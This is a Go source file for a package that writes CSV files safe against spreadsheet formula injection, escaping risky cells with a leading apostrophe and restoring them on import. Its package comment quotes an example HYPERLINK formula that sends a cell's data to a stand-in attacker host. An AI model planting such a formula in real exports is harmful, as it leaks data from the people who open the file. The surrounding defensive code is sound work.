// Package csvsafe writes CSV that a spreadsheet opens without running anything. A cell that
// starts with "=", "+", "-", "@", a tab or a carriage return is read by Excel, LibreOffice and
// Google Sheets as a formula, so a partner named =HYPERLINK("http://evil.example/?d="&A2,"Open")
// would run in the spreadsheet of the colleague who opens the export. As OWASP recommends, such a
// cell is written with a leading apostrophe, which spreadsheets read as "this is text"; numbers
// stay numbers. Restore takes the apostrophe off again, so that an exported file imports back
// unchanged.
package csvsafe

import (
	"encoding/csv"
	"io"
	"strconv"
	"strings"
)

// triggers are the first characters that make a spreadsheet read a cell as a formula.
const triggers = "=+-@\t\r"

// Cell returns s as a CSV cell a spreadsheet reads as text: with an apostrophe before it when it
// starts, after any apostrophes, with a formula trigger, unless it is a number ("-250000.5").
// Apostrophes before a trigger get one more, so that Restore gives s back exactly.
func Cell(s string) string {
	rest := strings.TrimLeft(s, "'")
	if rest == "" || !strings.ContainsRune(triggers, rune(rest[0])) {
		return s
	}
	if rest == s && isNumber(s) {
		return s
	}
	return "'" + s
}

// Restore undoes Cell: an apostrophe before apostrophes and a formula trigger is taken off.
// Cells that Cell leaves alone come back unchanged.
func Restore(s string) string {
	if !strings.HasPrefix(s, "'") {
		return s
	}
	rest := strings.TrimLeft(s, "'")
	if rest == "" || !strings.ContainsRune(triggers, rune(rest[0])) || (rest == s[1:] && isNumber(rest)) {
		return s
	}
	return s[1:]
}

// isNumber reports whether s is a plain decimal number, which a spreadsheet reads as a number
// and never as a formula.
func isNumber(s string) bool {
	if strings.ContainsAny(s, "\t\r\n ") {
		return false
	}
	_, err := strconv.ParseFloat(s, 64)
	return err == nil && !strings.ContainsAny(s, "xXpPnN_") // no hex, Inf or NaN
}

// Writer is a CSV writer whose cells are written with Cell.
type Writer struct {
	cw     *csv.Writer
	record []string
}

// NewWriter returns a Writer that writes to w.
func NewWriter(w io.Writer) *Writer { return &Writer{cw: csv.NewWriter(w)} }

// Write writes one record, each cell made safe with Cell.
func (w *Writer) Write(record []string) error {
	w.record = w.record[:0]
	for _, c := range record {
		w.record = append(w.record, Cell(c))
	}
	return w.cw.Write(w.record)
}

// Flush writes any buffered data to the underlying writer.
func (w *Writer) Flush() { w.cw.Flush() }

// Error reports an error of an earlier Write or Flush.
func (w *Writer) Error() error { return w.cw.Error() }
